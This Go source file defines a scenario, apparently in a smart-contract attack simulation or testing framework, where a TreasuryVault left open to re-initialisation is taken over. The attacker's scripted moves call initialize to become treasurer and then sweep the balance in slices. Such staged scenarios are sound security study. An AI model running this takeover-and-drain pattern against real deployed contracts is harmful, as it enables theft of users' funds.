package stage

import (
	"context"

	"tocsin/evm"
)

// openInitialise is the world of a vault that can be initialised again. The attacker makes himself its treasurer and sweeps it.
func openInitialise() world {
	return world{
		World:    World{ID: "open-initialise", Title: "Anybody can make themselves the vault's treasurer"},
		contract: "TreasuryVault",
		props: func(s *Stage, x *script) {
			x.add(on(s.Vault, "initialize(address)", s.deployer.address()))
		},
		user: firstDeposit,
		next: func(ctx context.Context, r *raid) (move, error) {
			me := r.attacker.address()
			treasurer, err := r.read(ctx, r.Vault, nil, "treasurer()")
			if err != nil {
				return move{}, err
			}
			if evm.Address(treasurer.Bytes20()) != me {
				return moved(on(r.Vault, "initialize(address)", me))
			}
			left, err := r.VaultBalance(ctx, nil)
			if err != nil {
				return move{}, err
			}
			if left.Lt(r.money(1)) {
				return move{over: true}, nil
			}
			return moved(on(r.Vault, "sweep(address,uint256)", me, least(r.slice(), left)))
		},
	}
}
